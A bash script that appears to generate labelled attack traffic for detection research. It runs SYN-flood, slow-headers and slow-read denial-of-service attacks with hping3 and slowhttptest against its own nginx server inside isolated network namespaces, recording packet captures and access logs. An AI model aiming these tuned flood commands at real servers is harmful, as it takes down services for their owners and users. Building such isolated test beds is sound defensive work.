#!/usr/bin/env bash
# One attack on a web server of our own, in two network namespaces of our own: `attack.sh KIND FOLDER`.
# Leaves FOLDER/KIND.pcap, FOLDER/KIND.access.log and FOLDER/KIND.start (seconds since the epoch).
# Nothing leaves the machine: the only road of either namespace is the cable between them.
set -euo pipefail
kind=$1 folder=$2
web=scrutineer-web-$$ attacker=scrutineer-attacker-$$
mkdir -p "$folder/www"
echo '<html>results</html>' >"$folder/www/index.html"
head -c 4096 /dev/zero | tr '\0' a >"$folder/www/results.json"
started=()
tidy() {
    for process in "${started[@]}"; do kill "$process" 2>/dev/null || true; done
    wait 2>/dev/null || true
    ip netns del "$web" 2>/dev/null || true
    ip netns del "$attacker" 2>/dev/null || true
}
trap tidy EXIT

ip netns add "$web"
ip netns add "$attacker"
ip link add lab-web netns "$web" type veth peer name lab-attacker netns "$attacker"
ip -n "$web" addr add 198.51.100.1/24 dev lab-web
ip -n "$web" link set lab-web up
for host in 66 102 103 104 105 106 107 108 109; do
    ip -n "$attacker" addr add "198.51.100.$host/24" dev lab-attacker
done
ip -n "$attacker" link set lab-attacker up
# Answers to invented sources go back over the cable too, and nowhere else.
ip -n "$web" route add default via 198.51.100.66

cat >"$folder/nginx.conf" <<CONF
daemon off;
pid $folder/nginx.pid;
error_log $folder/error.log;
worker_processes 1;
events { worker_connections 2048; }
http {
    log_format timed '\$remote_addr - \$remote_user [\$time_local] "\$request" \$status \$body_bytes_sent "\$http_referer" "\$http_user_agent" \$request_time';
    access_log $folder/$kind.access.log timed;
    client_header_timeout 20s;
    client_body_timeout 20s;
    server { listen 198.51.100.1:80; root $folder/www; }
}
CONF
ip netns exec "$web" nginx -c "$folder/nginx.conf" &
started+=($!)
ip netns exec "$web" tcpdump -i lab-web -s 200 -U -w "$folder/$kind.pcap" 2>"$folder/tcpdump.log" &
started+=($!)
sleep 1

visitors() {
    for n in $(seq 1 "$1"); do
        for page in / /results.json; do
            ip netns exec "$attacker" curl -s -o /dev/null --interface "198.51.100.10$((2 + n % 8))" \
                -A "Mozilla/5.0 (X11; Linux x86_64) visitor$((n % 8))" "http://198.51.100.1$page"
        done
        sleep 0.4
    done
}

visitors 20
date +%s.%N >"$folder/$kind.start"
case $kind in
syn) timeout 5 ip netns exec "$attacker" hping3 -S -p 80 -i u50 --rand-source 198.51.100.1 >/dev/null 2>&1 || true ;;
slow-headers) timeout 60 ip netns exec "$attacker" slowhttptest -H -c 400 -r 100 -i 5 -t GET -l 40 -u http://198.51.100.1/ >/dev/null 2>&1 || true ;;
slow-read) timeout 60 ip netns exec "$attacker" slowhttptest -X -c 400 -r 100 -w 10 -y 20 -n 5 -z 32 -l 40 -u http://198.51.100.1/results.json >/dev/null 2>&1 || true ;;
quiet) visitors 60 ;;
*) echo "attack.sh: no attack is called \`$kind\`" >&2; exit 2 ;;
esac
visitors 20
sleep 1
